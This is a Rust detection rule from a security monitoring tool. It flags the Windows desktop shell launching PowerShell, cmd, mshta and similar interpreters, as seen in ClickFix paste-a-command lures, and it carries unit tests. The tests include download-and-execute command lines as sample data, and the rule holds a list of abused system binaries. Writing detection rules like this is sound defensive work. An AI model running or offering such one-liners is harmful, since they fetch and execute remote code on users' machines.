//! PROC-04: the user's desktop shell starts an interpreter.
//!
//! Sees: explorer as the parent of PowerShell, cmd, a script host or a system tool that runs code of others, with
//! arguments. Alone worth knowing only; medium when the arguments hide, decode or download, or when the Run dialog
//! was used within ten seconds before.
//! Why: fake captchas and fake repairs make users paste commands into the Run dialog; shortcuts in archives do the same.
//! Benign causes: administrators at their desks, shortcuts to scripts, batch files that are double-clicked.
//! Sources: MITRE ATT&CK T1204.004; published ClickFix campaigns for the RunMRU value; lengths and times are judgement.

use super::meta::{Key, Level, Meta, Reads, Threshold};
use super::starts::{self, command, names, technique_of};
use super::{Cx, Hit, KeyRows, Signal};
use crate::lake::frame::Row;
use crate::rules::content::{self, Class};
use crate::rules::encoded::encoded_command;
use crate::schema::{common, process as t, registry};

/// See the module.
pub struct Proc04;

const RUN_DIALOG_S: f64 = 10.0;
const ONE_LINER: f64 = 120.0;

static META: Meta = Meta {
    id: "PROC-04",
    title: "User shell starts an interpreter",
    sees: "Explorer starts an interpreter with arguments; raised when they hide a window, decode, run or download \
           something, when mshta or msiexec gets a URL, or when the Run dialog was used just before.",
    why: "Users are talked into pasting commands (ClickFix) and into opening shortcuts that run them.",
    techniques: &[
        "T1059.001",
        "T1059.003",
        "T1204.004",
        "T1218.005",
        "T1218.007",
        "T1059.005",
        "T1059.007",
    ],
    stage: "execution",
    family: "process lineage",
    key: Key::Host,
    reads: &[
        Reads {
            table: &t::TABLE,
            columns: starts::COLUMNS,
        },
        Reads {
            table: &registry::TABLE,
            columns: &[registry::KEY, registry::DATA, common::USER],
        },
    ],
    level: Level::Info,
    decisive: false,
    thresholds: &[
        Threshold {
            name: "run_dialog_seconds",
            value: RUN_DIALOG_S,
            unit: "s",
            source: "[J] the value is written when the command starts",
        },
        Threshold {
            name: "one_liner_chars",
            value: ONE_LINER,
            unit: "characters",
            source: "[J] longer than people type",
        },
    ],
    benign: &[
        "an administrator opens a console with a script",
        "a shortcut or batch file of the organisation",
    ],
};

impl Signal for Proc04 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let run_dialog: Vec<Row<'_>> = rows
            .table(&registry::TABLE)
            .iter()
            .filter(|r| r.str(registry::KEY).to_ascii_lowercase().contains("\\explorer\\runmru"))
            .collect();
        for row in starts::starts(rows.table(&t::TABLE)) {
            if row.str(t::PARENT_NAME) != "explorer.exe" || !starts::is_one_of(row, CHILDREN) {
                continue;
            }
            let before = run_dialog
                .iter()
                .rev()
                .find(|r| (0..=(cx.number(&META, "run_dialog_seconds") * 1e6) as i64).contains(&(row.ts() - r.ts())));
            hits.extend(judge(cx, row, before.copied()));
        }
    }
}

/// Interpreters that users start with arguments. Explorer starts rundll32 for every control panel and msiexec for
/// every package, so these count only with a reason.
const CHILDREN: &[&str] = &[
    "bitsadmin",
    "certutil",
    "cmd",
    "cscript",
    "curl",
    "forfiles",
    "mshta",
    "msiexec",
    "powershell",
    "pwsh",
    "regsvr32",
    "rundll32",
    "wmic",
    "wscript",
];

fn judge(cx: &Cx<'_>, row: Row<'_>, run_dialog: Option<Row<'_>>) -> Option<Hit> {
    let (image, original) = names(row);
    let program = if CHILDREN.contains(&image.as_str()) {
        image
    } else {
        original
    };
    let line = row.str(t::CMDLINE);
    let arguments = crate::rules::cmdline::tokenize(line).len() > 1;
    let reason = reason(row, &program, line);
    let scripted = matches!(
        program.as_str(),
        "powershell" | "pwsh" | "cmd" | "wscript" | "cscript" | "mshta"
    );
    // From the Run dialog a bare console is ordinary; one with arguments is what pasted commands look like.
    let run_dialog = run_dialog.filter(|_| arguments && program != "rundll32");
    if reason.is_none() && run_dialog.is_none() && !(arguments && scripted) {
        return None;
    }
    let own = technique_of(&program, line).unwrap_or("T1059");
    let pasted = run_dialog.is_some()
        || (reason.is_some() && line.chars().count() >= cx.number(&META, "one_liner_chars") as usize);
    let why = match (&reason, &run_dialog) {
        (Some(r), Some(_)) => format!(", {r}, from the Run dialog"),
        (Some(r), None) => format!(", {r}"),
        (None, Some(_)) => ", from the Run dialog".to_owned(),
        (None, None) => String::new(),
    };
    let explain = format!("the desktop shell started {program}{why}: {}", command(row));
    let class = reason.unwrap_or(if run_dialog.is_some() {
        "run dialog"
    } else {
        "arguments"
    });
    let mut hit = Hit::at(&META, row, format!("explorer>{program}:{class}"), explain);
    let techniques: &[&'static str] = if pasted { &["T1204.004", own] } else { &[own] };
    hit = hit.techniques(techniques);
    if reason.is_some() || run_dialog.is_some() {
        hit = hit.level(Level::Medium);
    }
    if let Some(value) = run_dialog {
        hit.add_row(value);
    }
    hit.iocs = starts::iocs(row);
    Some(hit)
}

/// What makes the arguments worth a look.
fn reason(row: Row<'_>, program: &str, line: &str) -> Option<&'static str> {
    if line.is_empty() {
        return None;
    }
    let lower = line.to_ascii_lowercase();
    let url = lower.contains("http://") || lower.contains("https://");
    if encoded_command(line, row.str(t::IMAGE_NAME)).is_some() {
        return Some("with an encoded command");
    }
    let classes = content::classes(line);
    match program {
        "mshta" | "regsvr32" | "certutil" | "bitsadmin" if url => Some("with a URL"),
        "msiexec" if url => Some("with a package from a URL"),
        "mshta" if lower.contains("javascript:") || lower.contains("vbscript:") => Some("with inline script"),
        "curl" => None,
        // The shell opens links of Internet shortcuts through rundll32.
        "rundll32" if !lower.contains("javascript:") => None,
        _ if classes.contains(Class::Tamper) => Some("to tamper with defences"),
        _ if classes.contains(Class::Download) && (url || classes.contains(Class::Execute)) => Some("to download"),
        _ if classes.contains(Class::Hide) => Some("in a hidden window"),
        _ if classes.contains(Class::Execute) => Some("to run text"),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::{hits_of, start};
    use crate::signals::testing::Sample;

    const EXPLORER: &str = r"C:\Windows\explorer.exe";

    fn level(image: &str, line: &str) -> Option<Level> {
        hits_of(&Proc04, image, EXPLORER, line).first().map(|h| h.level)
    }

    #[test]
    fn what_hides_or_downloads_is_medium() {
        assert_eq!(
            level(
                "powershell.exe",
                "powershell -w hidden -c \"iex(irm http://192.0.2.1/a)\""
            ),
            Some(Level::Medium)
        );
        assert_eq!(
            level("mshta.exe", "mshta https://example.top/x.hta"),
            Some(Level::Medium)
        );
        assert_eq!(
            level(
                "cmd.exe",
                r"cmd /c curl -o %TEMP%\a.exe http://192.0.2.1/a && start %TEMP%\a.exe"
            ),
            Some(Level::Medium)
        );
        assert_eq!(
            level("powershell.exe", r"powershell -File C:\jobs\a.ps1"),
            Some(Level::Info)
        );
    }

    #[test]
    fn a_console_and_a_control_panel_are_ordinary() {
        for (image, line) in [
            ("powershell.exe", "\"powershell.exe\""),
            ("cmd.exe", "\"cmd.exe\""),
            ("notepad.exe", "notepad a.txt"),
            ("powershell_ise.exe", "powershell_ise a.ps1"),
            ("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL desk.cpl"),
            ("msiexec.exe", r#""msiexec.exe" /i "C:\Users\a\Downloads\x.msi""#),
        ] {
            assert_eq!(level(image, line), None, "{line}");
        }
    }

    #[test]
    fn the_run_dialog_counts_for_ten_seconds() {
        for (time, expected) in [
            ("08:59:56", Level::Medium),
            ("08:59:40", Level::Info),
            ("09:00:02", Level::Info),
        ] {
            let mut sample = Sample::default();
            sample.row(&registry::TABLE, "ws01", &format!("2026-03-02T{time}Z"), |b| {
                b.text(
                    registry::KEY,
                    r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
                );
            });
            start(
                &mut sample,
                "2026-03-02T09:00:00Z",
                "cmd.exe",
                EXPLORER,
                r"cmd /c C:\x\a.bat",
            );
            let found = sample.hits(&Proc04);
            assert_eq!(found[0].level, expected, "{time}");
            assert_eq!(
                found[0].techniques.contains(&"T1204.004".into()),
                expected == Level::Medium
            );
        }
    }
}
